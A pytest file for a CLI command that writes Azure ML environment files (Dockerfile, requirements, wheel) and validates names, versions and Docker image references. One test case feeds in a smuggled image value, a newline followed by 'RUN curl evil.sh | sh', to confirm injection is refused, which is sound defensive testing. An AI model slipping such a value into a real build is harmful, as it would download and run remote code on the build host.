"""`mlpipe environment`: an Azure ML environment that installs the wheel built from this
checkout (runtime_env.py), loaded and validated by azure-ai-ml, and accepted by the pre-flight."""
from __future__ import annotations

import hashlib
import re
import zipfile

import pytest
from click.testing import CliRunner

from mlpipe.backends.azure.runtime_env import (
    DEFAULT_IMAGE,
    GPU_IMAGE,
    MLFLOW_CLIENT,
    write_runtime_environment,
)
from mlpipe.cli import main
from mlpipe.errors import UsageError
from mlpipe.version import __version__


@pytest.mark.slow
def test_the_environment_installs_the_wheel_of_this_checkout(tmp_path):
    from azure.ai.ml import load_environment

    done = CliRunner().invoke(main, ["environment", "defect-cpu", "--version", "5", "-o",
                                     str(tmp_path / "env")])
    assert done.exit_code == 0, done.output
    assert "register it with: az ml environment create --file" in done.output
    wheels = list((tmp_path / "env" / "context").glob("mlpipe_aml-*.whl"))
    assert [w.name.split("-")[1] for w in wheels] == [__version__]
    names = zipfile.ZipFile(wheels[0]).namelist()
    assert "mlpipe/runtime/step.py" in names and not any(n.startswith("tests/") for n in names)
    dockerfile = (tmp_path / "env" / "context" / "Dockerfile").read_text()
    assert f"/tmp/mlpipe/{wheels[0].name}" in dockerfile
    assert "-r /tmp/mlpipe/requirements.txt" in dockerfile and dockerfile.startswith(
        f"FROM {DEFAULT_IMAGE}\n")  # no pipeline named: the CPU image and the MLflow client
    assert tuple((tmp_path / "env" / "context" / "requirements.txt").read_text().splitlines()) \
        == MLFLOW_CLIENT
    env = load_environment(tmp_path / "env" / "environment.yml")  # azure-ai-ml's own reading
    assert (env.name, env.version) == ("defect-cpu", "5")
    assert env.build.path.endswith("context")
    assert env.tags["mlpipe.wheel_sha256"] == hashlib.sha256(wheels[0].read_bytes()).hexdigest()


def _wheel(folder, holds="mlpipe/runtime/step.py"):
    wheel = folder / f"mlpipe_aml-{__version__}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr(holds, "")
    return wheel


def test_a_given_wheel_is_used_and_a_file_that_is_not_one_refused(tmp_path):
    path = write_runtime_environment(tmp_path / "env", "e", "1", image="base:1",
                                     wheel=_wheel(tmp_path))
    assert "FROM base:1" in (path.parent / "context" / "Dockerfile").read_text()
    with pytest.raises(UsageError, match=r"is not an mlpipe wheel"):
        write_runtime_environment(tmp_path / "env", "e", "1", wheel=tmp_path / "env" /
                                  "environment.yml")
    other = tmp_path / "other"
    other.mkdir()
    with pytest.raises(UsageError, match=r"is not an mlpipe wheel: it holds no "
                                         r"mlpipe/runtime/step\.py"):
        write_runtime_environment(tmp_path / "env2", "e", "1", wheel=_wheel(other, "x.py"))
    assert not (tmp_path / "env2").exists()  # nothing written


@pytest.mark.parametrize(("args", "match"), [
    (["bad name", "--version", "1"], r"the environment name 'bad name' is not an Azure ML "
                                     r"asset name"),
    (["_env", "--version", "1"], r"the environment name ._env. is not an Azure ML asset name"),
    (["e", "--version", "1/2"], r"the version '1/2' is not an Azure ML asset version"),
    (["e", "--version", "latest"], r"the version 'latest' is not an Azure ML asset version"),
    (["e", "--version", "1", "--image", "base:1\nRUN curl evil.sh | sh"],
     r"the image 'base:1\\nRUN curl evil.sh \| sh' holds a control character \('\\n' at "
     r"position 6\): in a Dockerfile or YAML file it would start a line of its own"),
    (["e", "--version", "1\r"], r"the version '1\\r' holds a control character"),
    (["e\tx", "--version", "1"], r"the environment name 'e\\tx' holds a control character"),
    (["e", "--version", "1", "--image", "Base:1"], r"the image 'Base:1' is not a Docker image "
                                                   r"reference"),
    (["e", "--version", "1", "--image", "base:1 AS x"], r"the image 'base:1 AS x' is not a "
                                                        r"Docker image reference"),
    (["e", "--version", "1", "--image", "base@sha256:12"], r"is not a Docker image reference"),
])
def test_a_name_version_or_image_that_cannot_be_registered_is_refused(tmp_path, args, match):
    out = tmp_path / "env"
    done = CliRunner().invoke(main, ["environment", *args, "-o", str(out), "--wheel",
                                     str(_wheel(tmp_path))])
    assert done.exit_code == 2, done.output
    assert re.search(match, done.output), done.output
    assert done.output.count("error:") == 1 and "Traceback" not in done.output
    assert not out.exists()  # nothing half-written


@pytest.mark.parametrize("image", [
    "base:1", "mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu22.04",
    "localhost:5000/team/train:2024.06-cu118",
    "mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu22.04@sha256:" + "ab" * 32,
])
def test_image_references_docker_accepts_are_accepted(tmp_path, image):
    path = write_runtime_environment(tmp_path / "env", "e", "1", image=image,
                                     wheel=_wheel(tmp_path))
    assert (path.parent / "context" / "Dockerfile").read_text().startswith(f"FROM {image}\n")


def test_the_steps_of_a_pipeline_get_what_they_need_and_a_gpu_image_on_gpu_sizes(tmp_path):
    from backends.azure.azure_helpers import ROOT

    out = tmp_path / "gpu"
    done = CliRunner().invoke(main, [
        "environment", "defect-gpu", "--version", "7", "-o", str(out), "--wheel",
        str(_wheel(tmp_path)), "--pipeline", str(ROOT / "pipelines/defect_classifier_ddp.py")])
    assert done.exit_code == 0, done.output
    assert "for steps train_cnn, evaluate_cnn (GPU): torch==" in done.output
    context = out / "context"
    assert (context / "Dockerfile").read_text().splitlines()[0] == f"FROM {GPU_IMAGE}"
    wanted = (context / "requirements.txt").read_text().splitlines()
    assert wanted[0].startswith("torch==") and "+" not in wanted[0]
    assert wanted[1:] == ["mlflow>=2.16,<2.19", "azureml-mlflow>=1.57"]  # MLflowModel: full

    fit = ROOT / "tests/fixtures/runtime_install/fit.py"
    done = CliRunner().invoke(main, ["environment", "fit-env", "--version", "1", "-o",
                                     str(tmp_path / "cpu"), "--wheel", str(_wheel(tmp_path)),
                                     "--pipeline", str(fit)])
    assert done.exit_code == 0, done.output
    context = tmp_path / "cpu" / "context"
    assert (context / "Dockerfile").read_text().splitlines()[0] == f"FROM {DEFAULT_IMAGE}"
    assert (context / "requirements.txt").read_text().splitlines() == [
        "pyarrow>=14", "mlflow>=2.16,<2.19", "azureml-mlflow>=1.57"]

    done = CliRunner().invoke(main, ["environment", "fit-env", "--version", "9", "-o",
                                     str(tmp_path / "none"), "--pipeline", str(fit)])
    assert done.exit_code == 2
    assert "error: no step of pipeline 'runtime-install' runs in environment fit-env:9" in (
        done.output)


def test_the_preflight_accepts_an_environment_it_built(azureml, service):
    from backends.azure.azure_helpers import ROOT
    from mlpipe.backends.azure.preflight import run_preflight
    from mlpipe.loader import load_spec

    spec, _ = load_spec(f"{ROOT / 'tests/fixtures/azure/preflight/pf.py'}:data")
    azureml.add_environment("defect-cpu", "4", build="azureml://datastores/x/paths/env/")
    found = run_preflight(spec, service.workspace, service.client,
                          inputs={"raw": "data/raw"}).diagnostics
    assert [(d.code, "built from a Docker context" in d.message) for d in found] == [
        ("MP861", True)]
    azureml.add_environment("defect-cpu", "4", build="azureml://datastores/x/paths/env/",
                            tags={"mlpipe.runtime": __version__})
    assert run_preflight(spec, service.workspace, service.client,
                         inputs={"raw": "data/raw"}).diagnostics == []
